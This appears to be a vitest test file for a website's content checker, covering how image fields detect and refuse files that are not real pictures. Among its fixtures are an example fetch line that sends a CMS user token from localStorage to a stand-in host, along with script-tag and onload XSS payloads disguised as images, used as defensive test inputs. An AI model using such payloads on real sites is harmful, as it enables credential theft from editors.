import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { MESSAGES } from "../../src/lib/content/messages.ts";
import { pictureFormatOf, pictureProblem, sniffPicture } from "../../src/lib/content/media.ts";
import { formatProblem } from "../../src/lib/content/problems.ts";
import { checkSite } from "../../src/lib/content/site-check.ts";
import { minimalSite } from "../support/minimal-site.ts";

const bytes = (text: string) => new TextEncoder().encode(text);
const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
const JPEG = new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16]);
const WEBP = bytes("RIFF\0\0\0\0WEBPVP8 ");
const AVIF = bytes("\0\0\0\x1cftypavif\0\0\0\0");

describe("sniffPicture", () => {
  it.each([
    ["a PNG", PNG, "png"],
    ["a JPEG", JPEG, "jpeg"],
    ["a WebP", WEBP, "webp"],
    ["an AVIF", AVIF, "avif"],
    ["an SVG", bytes('<svg xmlns="http://www.w3.org/2000/svg"/>'), "svg"],
    [
      "an Illustrator SVG",
      bytes(
        '\uFEFF<?xml version="1.0"?>\n<!-- Generator: Adobe Illustrator -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg version="1.1">',
      ),
      "svg",
    ],
    ["a prefixed SVG root", bytes('<s:svg xmlns:s="http://www.w3.org/2000/svg">'), "svg"],
    ["a web page", bytes("<!DOCTYPE html><html><script>alert(1)</script>"), "html"],
    ["a bare web page", bytes("<html><body onload=alert(1)>"), "html"],
    ["a script", bytes("fetch('https://evil.test/?' + localStorage['decap-cms-user'])"), "text"],
    ["an XML feed", bytes('<?xml version="1.0"?><rss version="2.0">'), "xml"],
    ["an SVG that declares entities", bytes('<!DOCTYPE svg [<!ENTITY x "<script>">]><svg>'), "xml"],
    ["a PDF", bytes("%PDF-1.7\n"), "pdf"],
    ["a zip", new Uint8Array([0x50, 0x4b, 3, 4, 0, 0]), "binary"],
  ])("tells %s", (_, head, format) => expect(sniffPicture(head)).toBe(format));
});

describe("pictureFormatOf", () => {
  it("knows picture endings in any case and nothing else", () => {
    expect(pictureFormatOf("./images/Desk.JPG")).toBe("jpeg");
    expect(pictureFormatOf("content/brand/logo.svg")).toBe("svg");
    for (const path of ["offer.html", "a.js", "feed.xml", "menu.pdf", "logo.svg.html", "noending", "a.gif"])
      expect(pictureFormatOf(path), path).toBeUndefined();
  });
});

describe("pictureProblem", () => {
  const where = { file: "content/posts/a.mdx", line: 4 };
  const check = (value: string, path: string, head?: Uint8Array) =>
    pictureProblem({ field: "heroImage", value, path, head }, where);

  it("refuses a file that is not a picture by its name, naming the file, the field and the fix", () => {
    const found = check("./images/offer.html", "content/posts/images/offer.html");
    expect(found && formatProblem(found)).toBe(
      'content/posts/a.mdx:4  heroImage "./images/offer.html" is not a picture: the site does not show .html files as images. Use a photo or drawing saved as .jpg, .jpeg, .png, .webp, .avif or .svg, e.g. ./images/desk.jpg. A web page, script, PDF or document cannot be an image: link to it instead, or ask a developer.',
    );
  });

  it("refuses a web page named .svg or .jpg, and an SVG named .png", () => {
    const page = check("./images/logo.svg", "content/posts/images/logo.svg", bytes("<!DOCTYPE html><html>"));
    expect(page?.what).toBe(
      'heroImage "./images/logo.svg": content/posts/images/logo.svg is named .svg but holds a web page (HTML).',
    );
    expect(page?.fix).toMatch(/export it again as a real \.svg file/);
    expect(check("./a.jpg", "content/posts/a.jpg", bytes("%PDF-1.4"))?.what).toContain(
      "holds a PDF document",
    );
    expect(check("./a.png", "content/posts/a.png", bytes("<svg>"))?.what).toContain("holds an SVG drawing");
  });

  it("accepts pictures, a photo saved under another photo's ending, and a name alone when the bytes are not at hand", () => {
    expect(check("./a.png", "content/posts/a.png", PNG)).toBeUndefined();
    expect(check("./a.jpg", "content/posts/a.jpg", PNG)).toBeUndefined();
    expect(
      check("./a.svg", "content/posts/a.svg", bytes('<svg xmlns="http://www.w3.org/2000/svg"/>')),
    ).toBeUndefined();
    expect(check("./a.webp", "content/posts/a.webp")).toBeUndefined();
  });
});

describe("the whole-site check refuses what is not a picture", () => {
  const FIELDS = `title: "How to sit well at a desk"
description: "What to change at your desk so your lower back hurts less, in five small steps."
pubDate: 2026-03-14
author: clinical-team
tags: [posture]`;
  const HTML = bytes("<!DOCTYPE html><html><script>alert(localStorage['decap-cms-user'])</script>");
  const heads: Record<string, Uint8Array> = {
    "content/posts/images/offer.html": HTML,
    "content/posts/images/logo.svg": HTML,
    "content/posts/images/desk.jpg": JPEG,
    "content/brand/logo.svg": HTML,
  };
  const settings = readFileSync(join(import.meta.dirname, "../../content/settings.yaml"), "utf8");
  const run = (post: string, { logo = false, logoPath = "./brand/logo.svg" } = {}) =>
    checkSite(
      minimalSite({
        posts: [{ file: "content/posts/x.mdx", text: `---\n${post}\n---\n` }],
        settings: logo
          ? {
              file: "content/settings.yaml",
              text: `${settings}\nbrand:\n  logo: ${logoPath}\n  logoAlt: Still Point\n`,
            }
          : undefined,
        files: new Set(Object.keys(heads)),
        readHead: (file) => heads[file],
      }),
      { today: "2026-06-01", includeDrafts: false },
    )
      // The fields' mistakes; the files themselves are named too (strayFile, fakePicture: content-pre-check).
      .filter((found) => found.field !== undefined && /picture/.test(`${found.what} ${found.fix}`))
      .map((found) => `${found.file}:${found.line ?? ""} ${found.field}`);

  it("in a post's hero image, by its name and by its content", () => {
    expect(run(`${FIELDS}\nheroImage: ./images/offer.html\nheroAlt: "An offer"`)).toEqual([
      "content/posts/x.mdx:7 heroImage",
    ]);
    expect(run(`${FIELDS}\nheroImage: ./images/logo.svg\nheroAlt: "A logo"`)).toEqual([
      "content/posts/x.mdx:7 heroImage",
    ]);
    expect(run(`${FIELDS}\nheroImage: ./images/desk.jpg\nheroAlt: "A desk"`)).toEqual([]);
  });

  it("a path that climbs out of the project is not the file it names inside it", () => {
    // From content/posts/, three folders up leaves the project: the build would read a file
    // outside it, so the check must not vouch for content/posts/images/desk.jpg instead.
    const outside = "../../../content/posts/images/desk.jpg";
    const all = (post: string, body = "Text.") =>
      checkSite(
        minimalSite({
          posts: [{ file: "content/posts/x.mdx", text: `---\n${post}\n---\n\n${body}\n` }],
          files: new Set(Object.keys(heads)),
          readHead: (file) => heads[file],
        }),
        { today: "2026-06-01", includeDrafts: false },
      )
        // The fields' mistakes (the fixture's other files are named as files: content-pre-check).
        .filter((found) => found.field !== undefined && !found.field.startsWith("reviewed"))
        .map((found) => `${found.field}: ${found.what}`);
    expect(all(`${FIELDS}\nheroImage: ${outside}\nheroAlt: "A desk"`)).toEqual([
      `heroImage: heroImage "${outside}": there is no file ../content/posts/images/desk.jpg.`,
    ]);
    expect(all(FIELDS, `![A desk](${outside})`)).toEqual([
      `image: image "${outside}": there is no file ../content/posts/images/desk.jpg.`,
    ]);
  });

  it("a picture path the build reads another way is refused: from the site's root, or a YAML photo without ./", () => {
    // The check found these next to the file; the build looked from the project's root (a leading
    // "/"), or for a package (a YAML entry's path without "./"), and stopped or published a broken
    // image (found by a review of the check against the build, 2026-12-07).
    const withTeam = (post: string, body = "", photo?: string) =>
      checkSite(
        minimalSite({
          posts: [{ file: "content/posts/x.mdx", text: `---\n${post}\n---\n\n${body}\n` }],
          team: photo
            ? [
                {
                  file: "content/team/jordan-reyes.yaml",
                  text: `name: Jordan Reyes\nrole: Massage therapist\nbio: Jordan has worked with back pain for ten years.\nphoto: ${photo}\nphotoAlt: Jordan smiling\n`,
                },
              ]
            : [],
          files: new Set([
            ...Object.keys(heads),
            "content/team/images/jordan.jpg",
            "content/posts/images/desk.jpg",
          ]),
          readHead: (file) => heads[file] ?? JPEG,
        }),
        { today: "2026-06-01", includeDrafts: false },
      )
        .filter((found) => found.field === "heroImage" || found.field === "image" || found.field === "photo")
        .map((found) => `${found.file} ${found.field}: ${found.what} ${found.fix}`);
    const fix = MESSAGES.picturePathForm.fix;
    expect(withTeam(`${FIELDS}\nheroImage: /images/desk.jpg\nheroAlt: "A desk"`)).toEqual([
      `content/posts/x.mdx heroImage: ${MESSAGES.picturePathForm.what({ field: "heroImage", value: "/images/desk.jpg" })} ${fix({ field: "heroImage", value: "/images/desk.jpg" })}`,
    ]);
    expect(withTeam(FIELDS, "![A desk](/posts/images/desk.jpg)")).toHaveLength(1);
    expect(withTeam(FIELDS, "", "images/jordan.jpg")).toEqual([
      `content/team/jordan-reyes.yaml photo: ${MESSAGES.picturePathForm.what({ field: "photo", value: "images/jordan.jpg" })} ${fix({ field: "photo", value: "images/jordan.jpg" })}`,
    ]);
    // What the build reads as written: ./ in a YAML entry, and a post's path without it.
    expect(withTeam(FIELDS, "", "./images/jordan.jpg")).toEqual([]);
    expect(withTeam(`${FIELDS}\nheroImage: images/desk.jpg\nheroAlt: "A desk"`)).toEqual([]);
  });

  it("in a post's body: a Markdown image and a <Figure>", () => {
    const body = `${FIELDS}\n---\n\n![An offer](./images/offer.html)\n\n<Figure src="posts/images/logo.svg" alt="A logo" />\n\n![A desk](./images/desk.jpg)`;
    expect(run(body).sort()).toEqual(["content/posts/x.mdx:11 Figure src", "content/posts/x.mdx:9 image"]);
  });

  it("in the settings' logo", () => {
    expect(run(FIELDS, { logo: true })).toEqual([
      expect.stringMatching(/^content\/settings\.yaml:\d+ brand\.logo$/),
    ]);
  });

  it("in the settings' logo named as the editor's media library copies it, from the project's folder", () => {
    expect(run(FIELDS, { logo: true, logoPath: "content/brand/logo.svg" })).toEqual([
      expect.stringMatching(/^content\/settings\.yaml:\d+ brand\.logo$/),
    ]);
  });
});
